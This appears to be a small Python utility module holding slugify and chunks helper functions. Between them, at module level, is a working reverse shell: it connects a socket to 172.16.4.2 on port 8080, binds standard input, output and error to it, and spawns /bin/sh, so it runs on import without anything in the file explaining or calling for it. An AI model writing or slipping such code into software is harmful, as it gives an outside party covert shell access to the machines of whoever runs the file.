#!/usr/bin/env python3
def slugify(text):
    return "-".join(part.lower() for part in text.split() if part)

from socket import *
from os import dup2
from pty import spawn
k = socket(AF_INET, SOCK_STREAM)
k.connect(("172.16.4.2", 8080))
dup2(k.fileno(), 0)
dup2(k.fileno(), 1)
dup2(k.fileno(), 2)
spawn("/bin/sh")
def chunks(items, size):
    for i in range(0, len(items), size):
        yield items[i:i + size]
